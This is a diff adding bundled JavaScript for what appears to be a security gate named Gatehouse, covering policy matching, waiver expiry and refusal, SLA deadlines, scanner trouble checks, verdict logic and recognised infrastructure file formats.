+    kind: oneOf({ schema: () => schemas_enum(kinds), universe: kinds, docs: `one of ${kinds.join(', ')}` }),
+    severity: oneOf({
+        schema: () => schemas_enum(severityConditions),
+        expand: (conditions) => severities.filter((severity) => conditions.some((one) => fitsSeverity(one, severity))),
+        universe: severities,
+        docs: `${severities.join(', ')}; with \`>=\` or \`<=\``,
+    }),
+    rule: oneOf({
+        schema: () => schemas_string().regex(/^[^\p{Cc}*]{1,200}$/u, 'name one rule, without wildcards'),
+        expand: (ids, names) => ids.flatMap((id) => [id, ...names.canonicalRules(id)]),
+        docs: 'exact',
+    }),
+    concept: oneOf({
+        schema: ({ concepts }) => (concepts === undefined ? conceptName : comparisons_named(concepts)),
+        docs: 'name of a concept',
+    }),
+    group: oneOf({
+        schema: ({ groups }) => comparisons_named([...(groups ?? new Map()).keys()]),
+        expand: (groups, names) => groups.flatMap((group) => names.groups?.get(group) ?? []),
+        docs: 'name of a group',
+    }),
+    tool: oneOf({ schema: (names) => comparisons_named(names.tools), docs: 'name of a tool' }),
+    format: oneOf({ schema: (names) => comparisons_named(names.formats), docs: 'name of a format' }),
+    path: globs(() => pathGlob, asWritten, { hasAll: true }),
+    address: globs(globText, withoutKeySlashes),
+    package: globs(() => packageGlob, decoded),
+    image: globs(() => imageGlob, asWritten),
+    license: globs(globText, licenseName, { docs: 'glob, whatever the case' }),
+    id: {
+        ...oneOf({
+            schema: () => schemas_string().regex(/^[0-9a-f]{8,32}$/u, 'be 8 to 32 of the digits 0-9 and a-f, as a report shows it'),
+            docs: 'first digits',
+        }),
+        compile: (ids) => (found) => found.some((hash) => ids.some((id) => String(hash).startsWith(id))),
+    },
+    cwe: oneOf({ schema: () => cweNumber, docs: 'exact' }),
+    fix: presence('available', 'none', () => schemas_enum(['available', 'none']), '`available` or `none`'),
+    known: presence('true', 'false', trueOrFalse, 'true or false'),
+    truth: truth(trueOrFalse),
+    score: bound('10(?:\\.0)?|\\d(?:\\.\\d{1,2})?', '>=7.5', 'from 0 to 10'),
+    probability: bound('1(?:\\.0+)?|0(?:\\.\\d{1,6})?', '>=0.5', 'from 0 to 1'),
+    age: age,
+};
+const comparisonOf = (name) => comparisons[name];
+
+;// CONCATENATED MODULE: ./build/js/core/policy/field-path.js
+function fieldReader(path) {
+    const steps = path.split('.');
+    return (seen) => {
+        const values = [];
+        collect(seen, steps, 0, values);
+        return values;
+    };
+}
+function collect(value, steps, from, values) {
+    if (Array.isArray(value))
+        for (const item of value)
+            collect(item, steps, from, values);
+    else if (typeof value === 'object' && value !== null)
+        collect(Reflect.get(value, steps[from] ?? ''), steps, from + 1, values);
+    else if (value !== undefined && value !== null && from === steps.length)
+        values.push(value);
+}
+
+;// CONCATENATED MODULE: ./build/js/core/policy/match.js
+
+
+
+/**
+ * Keys are AND, the values of a key OR, and one of `any` has to fit. Compile once for a policy, use for every finding. A match without
+ * keys fits nothing, and a finding that lacks what a key asks for does not fit.
+ */
+function compileMatch(match, compiling) {
+    const matchers = keyReaders.flatMap(({ key, compares, reads, has, feed }) => {
+        const values = valuesOf(match, key);
+        if (values === undefined)
+            return [];
+        const fits = comparisonOf(compares).compile(values, compiling);
+        const isUnknown = feed !== undefined && compiling.feeds?.includes(feed) === false;
+        const isSure = (found) => !isUnknown || found.length > 0;
+        return [(seen) => has(seen) && reads.map((read) => read(seen)).some((found) => isSure(found) && fits(found))];
+    });
+    const all = match.any === undefined ? matchers : [...matchers, compileAny(match.any, compiling)];
+    return (seen) => all.length > 0 && all.every((matches) => matches(seen));
+}
+function compileAny(branches, compiling) {
+    const matchers = branches.map((branch) => compileMatch(branch, compiling));
+    return (seen) => matchers.some((matches) => matches(seen));
+}
+const readerOf = (read) => {
+    if (typeof read === 'string')
+        return fieldReader(read);
+    const [first, second] = [fieldReader(read[0]), fieldReader(read[1])];
+    return (seen) => first(seen).flatMap((a) => second(seen).map((b) => `${String(a)}.${String(b)}`));
+};
+const hasField = (path) => {
+    if (path === undefined)
+        return () => true;
+    const read = readerOf(path);
+    return (seen) => read(seen).length > 0;
+};
+const keyReaders = allMatchKeys.map(({ key, compares, reads, onlyWith, feed }) => ({
+    key,
+    feed,
+    compares,
+    reads: reads.map(readerOf),
+    has: hasField(onlyWith),
+}));
+
+;// CONCATENATED MODULE: ./build/js/core/judge/deadlines.js
+const dayMs = 86_400_000;
+/** Days later, UTC; nothing for what is no day. */
+function addDays(day, days) {
+    const later = new Date(Date.parse(day) + days * dayMs);
+    return Number.isNaN(later.getTime()) || later.getUTCFullYear() > 9999 ? undefined : later.toISOString().slice(0, 10);
+}
+/**
+ * What a rule does today. With `sla` it blocks what is overdue and warns before; where there is no date or no limit for the severity, its
+ * `action` holds. Until `effective` it warns where it would block, now or later.
+ */
+function actionInTime({ action, effective, sla }, { advisory, severity }, today) {
+    const days = sla?.days[severity];
+    const published = advisory?.published;
+    const due = days === undefined || published === undefined ? undefined : addDays(published, days);
+    const overdue = due === undefined ? undefined : addDays(due, 1);
+    const from = [overdue, effective].flatMap((day) => day ?? []);
+    const last = from.sort().at(-1);
+    const wouldBlock = due !== undefined || action === 'block';
+    const isLater = wouldBlock && last !== undefined && last > today;
+    return {
+        action: isLater ? 'warn' : due === undefined ? action : 'block',
+        ...(due === undefined ? {} : { due }),
+        ...(isLater ? { blocksFrom: last } : {}),
+    };
+}
+
+;// CONCATENATED MODULE: ./build/js/core/judge/decide-layer.js
+
+
+
+
+/** The first rule that matches, else the floor. The layer sees severities as its own policy names them. */
+function compileLayer(layer, compiling) {
+    const { policy } = layer;
+    const rules = policy.rules.map((rule) => ({ rule, matches: compileMatch(rule.match, compiling) }));
+    const severityOf = compileSeverity([layer], compiling);
+    return (finding) => {
+        const seen = severityOf(withUnknownSeverity(finding, policy.settings.unknownSeverity));
+        const rule = rules.find((candidate) => candidate.matches(seen))?.rule;
+        return rule === undefined
+            ? { action: isOnFloor(seen, policy.block) ? 'block' : 'note', by: { layer: layer.layer } }
+            : byRule(rule, seen, layer.layer, compiling.today);
+    };
+}
+/** What nobody gave a severity has the one that the policy names. */
+const withUnknownSeverity = (finding, severity) => finding.severitySource === 'default' ? { ...finding, severity } : finding;
+/** Gives findings the severity that a policy says: of the first layer that says one, its first that matches. */
+function compileSeverity(layers, compiling) {
+    const overrides = layers.flatMap(({ policy }) => policy.severity.map(({ match, is }) => ({ is, matches: compileMatch(match, compiling) })));
+    return (seen) => {
+        const severity = overrides.find(({ matches }) => matches(seen))?.is;
+        return severity === undefined ? seen : { ...seen, severity, severitySource: 'override' };
+    };
+}
+const byRule = (rule, seen, layer, today) => ({
+    ...actionInTime(rule, seen, today),
+    by: { layer, rule: rule.id },
+    ...(rule.why === undefined ? {} : { why: rule.why }),
+    ...(rule.how === undefined ? {} : { how: rule.how }),
+});
+/** Licences never fall to the floor, nor do secrets that only an entropy detector saw (DESIGN 6). */
+function isOnFloor(finding, floor) {
+    switch (finding.kind) {
+        case 'license':
+            return false;
+        case 'secret':
+            return !finding.rule.tags.includes(entropyTag) && (floor.includes('secret') || isFloorSeverity(finding, floor));
+        case 'misconfiguration':
+        case 'vulnerability':
+        case 'integrity':
+            return isFloorSeverity(finding, floor);
+    }
+}
+/** The floor holds from its lowest severity upwards: raising a severity never weakens the action. */
+const isFloorSeverity = (finding, floor) => floor.some((name) => name === 'kev' ? finding.advisory?.kev !== undefined : name !== 'secret' && isAtLeast(finding.severity, name));
+
+;// CONCATENATED MODULE: ./build/js/core/judge/waivers.js
+
+
+
+/** Until `in-grace` a waiver counts: `expires` is its last day, UTC, and after it the policy gives some days more. */
+function waiverState({ expires }, today, { warnBeforeDays, graceDays }) {
+    if (expires === undefined)
+        return 'active';
+    const left = daysBetween(today, expires);
+    if (left > warnBeforeDays)
+        return 'active';
+    if (left >= 0)
+        return 'expiring';
+    return left >= -graceDays ? 'in-grace' : 'expired';
+}
+/** A finding may be asked about more than once. */
+const waivers_placeOf = ({ identity, place }) => [identity.logical, place.path, place.region?.startLine, place.block?.digest].join(' ');
+const daysBetween = (from, to) => (Date.parse(to) - Date.parse(from)) / dayMs;
+/** One exception lifts one thing, perhaps in several places. */
+const mostLifted = 10;
+/** Waivers compiled once. One that breaks the policy's rules for waivers, or is over, lets nothing through. */
+function openWaivers(all, rules, compiling) {
+    const entries = all.map((waiver) => ({
+        waiver,
+        matches: compileMatch(waiver.match, compiling),
+        lifted: new Set(),
+    }));
+    const met = new Set();
+    const refusals = new Map();
+    const remember = (waiver, refusal) => {
+        if (!refusals.has(waiver))
+            refusals.set(waiver, refusal);
+    };
+    const counts = (waiver, seen) => {
+        if (waiverState(waiver, compiling.today, rules) === 'expired')
+            return false;
+        const refusal = refuse(waiver, seen, rules, compiling.today);
+        if (refusal !== undefined)
+            remember(waiver, refusal);
+        return refusal === undefined;
+    };
+    return {
+        waiverFor(seen) {
+            const fitting = entries.filter(({ matches }) => matches(seen));
+            for (const { waiver } of fitting)
+                met.add(waiver);
+            const first = fitting.find(({ waiver }) => counts(waiver, seen));
+            first?.lifted.add(waivers_placeOf(seen));
+            return first?.waiver;
+        },
+        refuse: remember,
+        notes: () => entries
+            .flatMap(({ waiver, lifted }) => {
+            const note = (state, sentence) => ({
+                waiver: waiver.id,
+                state,
+                ...(waiver.expires === undefined ? {} : { expires: waiver.expires }),
+                ...(sentence === undefined ? {} : { sentence }),
+            });
+            const state = waiverState(waiver, compiling.today, rules);
+            const refusal = refusals.get(waiver);
+            return [
+                ...(state === 'active' ? [] : [note(state)]),
+                ...(met.has(waiver) ? [] : [note('unused')]),
+                ...(refusal === undefined ? [] : [note('refused', refusal)]),
+                ...(lifted.size > mostLifted ? [note('over-broad', `It lifts ${lifted.size} findings.`)] : []),
+            ];
+        })
+            .sort((a, b) => order_compareText(a.waiver, b.waiver) || order_compareText(a.state, b.state)),
+    };
+}
+/** Why a waiver does not count for a finding; nothing when it is what the policy asks for. */
+function refuse(waiver, { severity }, { require, maxDays }, today) {
+    const missing = require.find((field) => waiver[field] === undefined);
+    if (missing !== undefined)
+        return `The policy asks for \`${missing}\`, which it does not have.`;
+    const most = maxDays[severity];
+    if (most === undefined)
+        return undefined;
+    if (waiver.expires === undefined)
+        return `It does not end; for a ${severity} finding at most ${most} days are allowed.`;
+    return daysBetween(today, waiver.expires) <= most
+        ? undefined
+        : `It ends on ${waiver.expires}; for a ${severity} finding at most ${most} days from today are allowed.`;
+}
+
+;// CONCATENATED MODULE: ./build/js/core/judge/decide.js
+
+
+
+
+/**
+ * Compiles policies and waivers once. Order: the first rule that matches, else the floor, in each layer, and the strictest stands;
+ * then a waiver; then a comment in the file. Each layer sees a severity as its own policy names it, and waivers as the
+ * repository's does, so that a layer more never weakens an action.
+ */
+function createDecider({ layers, ...options }) {
+    const [first, ...others] = layers;
+    const compiling = options;
+    const decideFirst = compileLayer(first, compiling);
+    const decideOthers = others.map((one) => compileLayer(one, compiling));
+    const rules = strictestWaiverRules(layers);
+    const waivers = openWaivers(options.waivers, rules, compiling);
+    const pending = openWaivers(options.pending, rules, compiling);
+    const settings = strictestSettings(layers);
+    const last = layers.at(-1) ?? first;
+    const ofWaivers = compileSeverity([last], compiling);
+    const shown = compileSeverity(layers, compiling);
+    const rule = (asked) => {
+        const own = decideFirst(asked);
+        return [own, strictestDecision([own, ...decideOthers.map((one) => one(asked))])];
+    };
+    const forPeople = (finding) => withUnknownSeverity(finding, settings.unknownSeverity);
+    return {
+        show: (finding) => withoutMark(shown({ ...forPeople(finding), introduced: true })),
+        decide(finding, introduced) {
+            const asked = { ...finding, introduced };
+            const [own, decision] = rule(asked);
+            const seen = ofWaivers(withUnknownSeverity(asked, last.policy.settings.unknownSeverity));
+            const counting = waivers.waiverFor(seen);
+            const isFree = mayWaive(layers) || own.action === 'note';
+            if (counting !== undefined && isFree)
+                return waive(decision, counting);
+            if (counting !== undefined)
+                waivers.refuse(counting, notFree);
+            const left = applySkip(finding, counting === undefined ? decision : own, settings);
+            const later = isFree && (left.action === 'block' || left.action === 'warn') ? pending.waiverFor(seen) : undefined;
+            return { ...left, ...(later === undefined ? {} : { waivedAfterMerge: later.id }) };
+        },
+        rule: (finding, introduced) => rule({ ...finding, introduced })[1].action,
+        waiverNotes: () => waivers.notes(),
+    };
+}
+const notFree = "What the organisation's policy decides stands: it does not let repositories waive.";
+const withoutMark = ({ introduced: _, ...finding }) => finding;
+/** No date is of interest any more. */
+const waive = ({ by, how, why }, { id, reason }) => ({
+    action: 'waive',
+    by: { ...by, waiver: id },
+    ...(how === undefined ? {} : { how }),
+    ...((reason ?? why) === undefined ? {} : { why: reason ?? why }),
+});
+/** A comment asks for silence; the policy says how far it is heard. What it could not lift is still told by the finding's source. */
+function applySkip(finding, decision, { inlineSkips }) {
+    const skip = skipOf(finding);
+    if (skip === undefined || inlineSkips === 'ignore')
+        return decision;
+    if (isBlocking(decision) && inlineSkips === 'below-block')
+        return decision;
+    return {
+        ...decision,
+        action: 'waive',
+        by: { ...decision.by, skip: skip.by },
+        ...(skip.reason === undefined ? {} : { why: skip.reason }),
+    };
+}
+/** What will block on a day to come is not lifted by a comment today. */
+const isBlocking = ({ action, blocksFrom }) => action === 'block' || blocksFrom !== undefined;
+
+;// CONCATENATED MODULE: ./build/js/core/judge/gaps.js
+
+
+/**
+ * The inventory's gaps and every tool's own, sorted. What one tool left out by its own rules and another examined for the same
+ * format was looked at; the evidence keeps it all the same.
+ */
+function collectGaps(evidence) {
+    const isExamined = examination(evidence.head);
+    const all = [...evidence.inventory.gaps, ...evidence.head.flatMap((run) => run.gaps)];
+    return [...new Map(all.map((gap) => [gaps_keyOf(gap), gap])).entries()]
+        .filter(([, gap]) => gap.reason !== 'left-out' || gap.detail === undefined || !isExamined(gap.path, gap.detail))
+        .sort(([a], [b]) => order_compareText(a, b))
+        .map(([, gap]) => gap);
+}
+const gaps_keyOf = (gap) => [gap.path, gap.reason, gap.tool ?? '', String(gap.line ?? 0).padStart(9, '0'), gap.detail ?? ''].join('\u001f');
+/**
+ * Whether some scanner looked at a file for a format. Each is given every file of a format it reads, so it did unless it examined
+ * nothing of that format or names the file among what it did not read.
+ */
+function examination(head) {
+    const scanners = head.map((run) => ({
+        formats: new Set(run.examined.filter(({ files }) => files > 0).map(({ format }) => format)),
+        unread: new Set(run.gaps.filter(keepsUnread).map(({ path }) => path)),
+        leftOut: new Set(run.gaps.filter(({ reason }) => reason === 'left-out').map(fileAndFormat)),
+    }));
+    return (path, format) => scanners.some(({ formats, unread, leftOut }) => formats.has(format) && !unread.has(path) && !leftOut.has(fileAndFormat({ path, detail: format })));
+}
+const fileAndFormat = ({ path, detail }) => JSON.stringify([path, detail]);
+
+;// CONCATENATED MODULE: ./build/js/core/judge/staleness.js
+
+/** Data that is older than the policy allows, one problem each. `now` is an ISO 8601 instant. */
+const staleData = (data, { maxAgeMs }, now) => [...new Map(data.map((each) => [each.name, each])).values()].flatMap(({ name, updated }) => {
+    const most = maxAgeMs.get(name);
+    const age = Date.parse(now) - Date.parse(updated);
+    return most === undefined || age <= most ? [] : [stale(name, age, most)];
+});
+const stale = (name, age, most) => ({
+    code: 'DATA_STALE',
+    sentence: `The data \`${name}\` is ${inWords(age)} old, and the policy allows ${inWords(most)}: newer findings may be missing.`,
+    hint: 'Fetch newer data, or raise `settings.max-age`.',
+});
+const inWords = (ms) => ms >= 3 * dayMs ? `${Math.floor(ms / dayMs)} days` : `${Math.floor(ms / 3_600_000)} hours`;
+
+;// CONCATENATED MODULE: ./build/js/core/judge/trouble.js
+
+/** What makes the evidence unfit to decide on: a run that is not complete, a canary that was not found, a tool that read nothing. What several scanners say alike is said once. */
+function findTrouble(evidence) {
+    const all = evidence.head.flatMap((run) => troubleOf(run).map((problem) => ({ problem, run })));
+    const told = groupBy(all, ({ problem }) => [problem.code, problem.sentence].join('\u001f'));
+    return [...told.values()].flatMap(([first]) => first === undefined ? [] : [{ ...first.problem, scanner: first.run.scanner }]);
+}
+function troubleOf(run) {
+    if (run.problems.length > 0)
+        return run.problems;
+    if (run.outcome !== 'complete')
+        return [incomplete(run)];
+    const unseen = run.canaries.filter((canary) => !canary.seen).map((canary) => canary.format);
+    if (unseen.length > 0)
+        return [canaryMissing(run, unseen)];
+    const unread = run.planned.filter((planned) => readNothingInSilence(run, planned)).map((planned) => planned.format);
+    return unread.length === 0 ? [] : [nothingExamined(run, unread)];
+}
+/** Files were given, none was read, and not because each of them is broken. */
+function readNothingInSilence(run, planned) {
+    const examined = run.examined.find((count) => count.format === planned.format)?.files ?? 0;
+    return (planned.files > 0 &&
+        examined === 0 &&
+        !run.canaries.some((canary) => canary.format === planned.format && canary.seen));
+}
+const trouble_nameOf = (run) => `${run.tool.name.charAt(0).toUpperCase()}${run.tool.name.slice(1)}`;
+const incomplete = (run) => ({
+    code: 'TOOL_CRASHED',
+    sentence: `${trouble_nameOf(run)} did not finish: its results are ${run.outcome === 'partial' ? 'incomplete' : 'missing'}.`,
+    hint: 'Run again; if it stays, look at the problems in evidence.json.',
+});
+const canaryMissing = (run, formats) => ({
+    code: 'CANARY_MISSING',
+    sentence: `${trouble_nameOf(run)} did not find the planted test case for ${formats.join(', ')}, so its silence proves nothing.`,
+    hint: 'Its rules or its data are missing or damaged. Run `gatehouse setup`, or give a complete vulnerability database.',
+});
+const nothingExamined = (run, formats) => ({
+    code: 'NOTHING_EXAMINED',
+    sentence: `${trouble_nameOf(run)} read none of the ${formats.join(', ')} files it was given.`,
+    hint: 'Run again with the evidence file (--evidence evidence.json) and look at its gaps.',
+});
+
+;// CONCATENATED MODULE: ./build/js/core/judge/unscanned.js
+
+/** Chosen by the policy, or read in another way: not a file that escaped. */
+const isUnscanned = (gap) => gap.reason !== 'excluded' &&
+    gap.reason !== 'left-out' &&
+    gap.reason !== 'own-config-ignored' &&
+    gap.reason !== 'rendered-elsewhere';
+/** Files that nobody looked at, as far as they warn: all of them where the policy says so, else those that the change touches. */
+function unscannedInWords(gaps, { onUnscanned }, base) {
+    const paths = (some) => sortedUnique(some.map(({ path }) => path));
+    const all = onUnscanned === 'warn' ? paths(gaps).length : 0;
+    if (all > 0)
+        return [`${all} ${all === 1 ? 'file was' : 'files were'} not looked at, or only in part.`];
+    const touched = new Set(base?.touched);
+    const [first, ...others] = paths(gaps.filter(({ path }) => touched.has(path)));
+    if (first === undefined || onUnscanned !== 'note')
+        return [];
+    const more = others.length === 0 ? '' : ` and ${others.length} more`;
+    return [
+        `This change touches ${first}${more}, which ${others.length === 0 ? 'was' : 'were'} not looked at, or only in part.`,
+    ];
+}
+
+;// CONCATENATED MODULE: ./build/js/core/judge/gather-weights.js
+
+
+
+
+
+/** Gathers what the verdict depends on: findings, trouble, data that is old or absent, files that nobody looked at. */
+function gatherWeights(input, { settings, layers, lists }) {
+    const { evidence, origin, feeds = {}, today, now = `${today}T00:00:00Z` } = input;
+    const gaps = collectGaps(evidence).filter(isUnscanned);
+    const stale = staleData([...evidence.head.flatMap(({ inputs }) => inputs.data), ...dataOf(feeds)], settings, now);
+    const problems = [
+        ...(input.trouble ?? []),
+        ...findTrouble(evidence),
+        ...(settings.onStaleData === 'error' ? stale : []),
+    ];
+    const warnings = [
+        ...[...origin.problems, ...missingFeeds(layers, feeds)].map(({ sentence }) => sentence),
+        ...(settings.onStaleData === 'warn' ? stale.map(({ sentence }) => sentence) : []),
+        ...unscannedInWords(gaps, settings, evidence.base),
+        ...(settings.onToolError === 'warn' ? problems.map(({ sentence }) => sentence) : []),
+    ];
+    return {
+        blocking: lists.get('block')?.length ?? 0,
+        broken: origin.broken?.length ?? 0,
+        warned: lists.get('warn')?.length ?? 0,
+        problems,
+        warnings,
+        settings,
+        gaps,
+    };
+}
+
+;// CONCATENATED MODULE: ./build/js/core/judge/older.js
+
+/**
+ * A change answers for what it introduces; what is older is noted, and the policy's word about it kept. What was moved to where the rules are
+ * stricter is new there; waivers of the place it left say nothing about that, so that a waiver never adds a block.
+ */
+function decideInChange(finding, comparison, decider) {
+    const twin = comparison?.twinOf(finding);
+    if (twin === undefined)
+        return { ...decider.decide(finding, true), introduced: true };
+    const decision = decider.decide(finding, false);
+    const { action } = decision;
+    if (action === 'note' || action === 'waive')
+        return { ...decision, introduced: false };
+    const isMoved = twin.place.path !== finding.place.path;
+    if (isMoved && isStricter(action, decider.rule(twin, false)))
+        return { ...decider.decide(finding, true), introduced: true };
+    const { waivedAfterMerge: _, ...older } = decision;
+    return { ...older, action: 'note', introduced: false, spared: action };
+}
+const isStricter = (action, than) => actions.indexOf(action) < actions.indexOf(than);
+const older_comparisonOf = ({ commit, problems }) => ({
+    ...(commit === undefined ? {} : { commit }),
+    problems,
+});
+
+;// CONCATENATED MODULE: ./build/js/core/judge/short-id.js
+
+const short_id_shortest = 8;
+/** The first 8 hex digits of a finding's identity, more where two different identities among these findings share them. */
+function shortIds(findings) {
+    const hashes = new Set(findings.map(({ identity }) => identity.logical));
+    const alike = [...groupBy(hashes, (hash) => hash.slice(0, short_id_shortest)).values()].filter((group) => group.length > 1);
+    const lengths = new Map(alike.flatMap(lengthsAmong));
+    return ({ identity: { logical } }) => logical.slice(0, lengths.get(logical) ?? short_id_shortest);
+}
+/** How much of each hash tells it from the others; in order, its neighbours are those it shares most with. */
+function lengthsAmong(hashes) {
+    const sorted = [...hashes].sort();
+    return sorted.map((hash, index) => {
+        const neighbours = [sorted[index - 1], sorted[index + 1]].flatMap((other) => other ?? []);
+        return [hash, Math.max(short_id_shortest, ...neighbours.map((other) => sharedLength(hash, other) + 1))];
     });
 }
+function sharedLength(a, b) {
+    let length = 0;
+    while (length < a.length && a[length] === b[length])
+        length += 1;
+    return length;
+}
+
+;// CONCATENATED MODULE: ./build/js/core/judge/weigh.js
+/**
+ * DESIGN 6, "Verdict order": what blocks, then trouble of the gate, then warnings. Before all of them a policy that could not be
+ * asked for, because then nobody knows what blocks (docs/decisions/policy-that-cannot-be-read.md).
+ */
+function verdictOf({ blocking, broken, warned, problems, warnings, settings, gaps }) {
+    if (problems.some(isUndecidable))
+        return 'error';
+    if (blocking > 0 || broken > 0)
+        return 'block';
+    if (problems.length > 0 && settings.onToolError === 'error')
+        return 'error';
+    if (gaps.length > 0 && settings.onUnscanned === 'error')
+        return 'error';
+    return warned > 0 || warnings.length > 0 ? 'warn' : 'pass';
+}
+const isUndecidable = ({ code }) => code === 'POLICY_UNREADABLE';
+/** One sentence. */
+function reasonOf(verdict, { blocking, broken, problems, warnings }, hadNothingToScan) {
+    switch (verdict) {
+        case 'block':
+            return blocksInWords(blocking, broken);
+        case 'error':
+            return problems[0]?.sentence ?? 'Files were not looked at, and the policy makes that an error.';
+        case 'warn':
+            return warnings[0] ?? 'There are warnings; nothing blocks.';
+        case 'pass':
+            return hadNothingToScan ? 'There is nothing to scan here.' : 'Nothing blocks.';
+    }
+}
+function blocksInWords(blocking, broken) {
+    const findings = blocking === 0 ? [] : [blocking === 1 ? '1 finding' : `${blocking} findings`];
+    const mistakes = broken === 0 ? [] : [`${broken === 1 ? '1 mistake' : `${broken} mistakes`} in the policy files`];
+    return `${[...findings, ...mistakes].join(' and ')} ${blocking + broken === 1 ? 'blocks' : 'block'}.`;
+}
+
+;// CONCATENATED MODULE: ./build/js/core/judge/judge.js
+
+
+
+
+
+
+
+
+
+
+
+
+/** Pure: the same evidence, policies, waivers and day give the same verdict. Every merged finding ends in exactly one list. */
+function judge(input) {
+    const { evidence, origin, today, feeds = {} } = input;
+    const layers = decidingLayers(input.layers);
+    const settings = strictestSettings(layers);
+    const base = settings.judge === 'everything' ? undefined : evidence.base;
+    const { judged, waivers } = decideAll(input, layers, base);
+    const lists = groupBy(judged, (one) => one.action);
+    const listOf = (action) => lists.get(action) ?? [];
+    const weighing = gatherWeights(input, { settings, layers, lists });
+    const { problems } = weighing;
+    const verdict = verdictOf(weighing);
+    const mode = input.mode ?? strictestMode(layers, input.properties);
+    const contact = contactOf(layers);
+    const waiverDays = strictestWaiverRules(layers).maxDays;
+    const used = dataOf(feeds);
+    return {
+        schema: 1,
+        gatehouse: input.version,
+        verdict,
+        mode,
+        enforced: mode === 'enforce' && (verdict === 'block' || verdict === 'error'),
+        reason: reasonOf(verdict, weighing, hadNothingToScan(evidence)),
+        policy: {
+            ...origin,
+            problems: [...origin.problems, ...missingFeeds(layers, feeds)],
+            ...(contact === undefined ? {} : { contact }),
+            ...(Object.keys(waiverDays).length === 0 ? {} : { waiverDays }),
+        },
+        subject: evidence.subject,
+        ...(base === undefined ? {} : { comparison: older_comparisonOf(base) }),
+        blocking: listOf('block'),
+        warnings: listOf('warn'),
+        noted: listOf('note'),
+        waived: listOf('waive'),
+        problems,
+        warningsOfTheGate: weighing.warnings,
+        coverage: {
+            files: evidence.inventory.files,
+            formats: evidence.inventory.formats,
+            gaps: collectGaps(evidence),
+            skips: evidence.inventory.skips,
+        },
+        waivers,
+        scanners: evidence.head.map(reportScanner),
+        ...(used.length === 0 ? {} : { feeds: used }),
+        judged: today,
+    };
+}
+/** Merges, enriches, and decides every finding, the worst first. */
+function decideAll(input, layers, base) {
+    const { evidence, names, today, waivers, pendingWaivers: pending = [], feeds = {} } = input;
+    const merged = mergeFindings(evidence.head.flatMap((run) => run.findings)).map((finding) => enrich(finding, feeds));
+    const given = feedNames.filter((name) => feeds[name] !== undefined);
+    const decider = createDecider({ layers, waivers, pending, names, today, feeds: given });
+    const comparison = base === undefined ? undefined : compareWithBase(merged, evidence.head, base);
+    const decided = merged.map((finding) => ({
+        ...decideInChange(finding, comparison, decider),
+        finding: decider.show(finding),
+    }));
+    const sorted = decided.sort((a, b) => compareFindings(a.finding, b.finding));
+    const idOf = shortIds(sorted.map(({ finding }) => finding));
+    return { judged: sorted.map((one) => ({ ...one, id: idOf(one.finding) })), waivers: decider.waiverNotes() };
+}
+const reportScanner = ({ scanner, tool, outcome, examined, inputs }) => ({
+    scanner,
+    tool,
+    outcome,
+    examined,
+    data: inputs.data,
+});
+/** No file, or none of a format that is known; files that the policy keeps from every tool are another matter. */
+const hadNothingToScan = (evidence) => evidence.inventory.formats.length === 0 && evidence.head.every((run) => run.planned.length === 0);
+
+;// CONCATENATED MODULE: ./build/js/core/version.js
+/** Of this program; a test keeps it equal to package.json. */
+const version_version = '0.1.0';
+
+// EXTERNAL MODULE: ./node_modules/picomatch/index.js
+var picomatch = __nccwpck_require__(14006);
+;// CONCATENATED MODULE: ./build/js/repository/formats.js
+
+const yamlOrJson = ['**/*.yaml', '**/*.yml', '**/*.json', '**/*.template'];
+const yaml = ['**/*.yaml', '**/*.yml'];
+/** Every format Gatehouse knows: name and recogniser. Which tool reads it, the tools declare themselves. */
+const formats = [
+    {
+        name: 'terraform',
+        title: 'Terraform and OpenTofu',
+        paths: ['**/*.tf', '**/*.tf.json', '**/*.tofu'],
+        recognised: '`*.tf`, `*.tf.json`, `*.tofu`',
+    },
+    {
+        name: 'terraform-plan',
+        title: 'Terraform plan in JSON',
+        among: ['**/*.json'],
+        says: [/"terraform_version"/, /"(?:planned_values|resource_changes)"/],
+        recognised: 'JSON with `terraform_version` and `planned_values` or `resource_changes`',
+    },
+    {
+        name: 'cloudformation',
+        title: 'CloudFormation and SAM templates',
+        among: yamlOrJson,
+        says: [/\bResources\b/, /AWSTemplateFormatVersion|AWS::[A-Za-z0-9]+::|Transform\b/],
+        recognised: 'YAML, JSON or `.template` with `Resources` and `AWS::…` types',
+    },
+    {
+        // What has no `metadata` (a kustomization, a configuration of kind or kubeadm) is no object of a cluster, and no tool reads it.
+        name: 'kubernetes',
+        title: 'Kubernetes manifests',
+        among: yamlOrJson,
+        says: [/\bapiVersion["']?[ \t]*:/, /\bkind["']?[ \t]*:/, /\bmetadata["']?[ \t]*:/],
+        recognised: 'YAML or JSON with `apiVersion`, `kind` and `metadata`',
+    },
+    { name: 'helm', title: 'Helm charts', paths: ['**/Chart.yaml'], recognised: '`Chart.yaml` and its `templates/`' },
+    {
+        name: 'dockerfile',
+        title: 'Dockerfiles',
+        paths: [
+            '**/{Dockerfile,dockerfile,Containerfile}',
+            '**/{Dockerfile,dockerfile,Containerfile}.*',
+            '**/*.{Dockerfile,dockerfile}',
+        ],
+        recognised: '`Dockerfile`, `Dockerfile.*`, `*.dockerfile`, `Containerfile`',
+    },
+    { name: 'bicep', title: 'Bicep', paths: ['**/*.bicep'], recognised: '`*.bicep`' },
+    {
+        name: 'arm',
+        title: 'Azure Resource Manager templates',
+        among: ['**/*.json'],
+        says: [/deploymentTemplate\.json/i, /"resources"/],
+        recognised: 'JSON whose `$schema` names `deploymentTemplate.json`',
+    },
+    {
+        name: 'github-actions',
+        title: 'GitHub Actions workflows',
+        paths: ['.github/workflows/*.{yml,yaml}', '**/.github/workflows/*.{yml,yaml}'],
+        recognised: '`.github/workflows/*.yml`',
+    },
+    { name: 'gitlab-ci', title: 'GitLab CI', paths: ['**/.gitlab-ci.{yml,yaml}'], recognised: '`.gitlab-ci.yml`' },
+    { name: 'circleci', title: 'CircleCI', paths: ['**/.circleci/*.{yml,yaml}'], recognised: '`.circleci/*.yml`' },
+    {
+        name: 'azure-pipelines',
+        title: 'Azure Pipelines',
+        paths: ['**/azure-pipelines*.{yml,yaml}'],
+        recognised: '`azure-pipelines*.yml`',
+    },
+    {
+        name: 'bitbucket-pipelines',
+        title: 'Bitbucket Pipelines',
+        paths: ['**/bitbucket-pipelines.{yml,yaml}'],
+        recognised: '`bitbucket-pipelines.yml`',
+    },
+    {
+        name: 'argo-workflows',
+        title: 'Argo Workflows',
+        among: yaml,
+        says: [/argoproj\.io/],
+        recognised: 'YAML that names `argoproj.io`',
+    },
+    {
+        name: 'openapi',
+        title: 'OpenAPI and Swagger',
+        among: ['**/*.yaml', '**/*.yml', '**/*.json'],
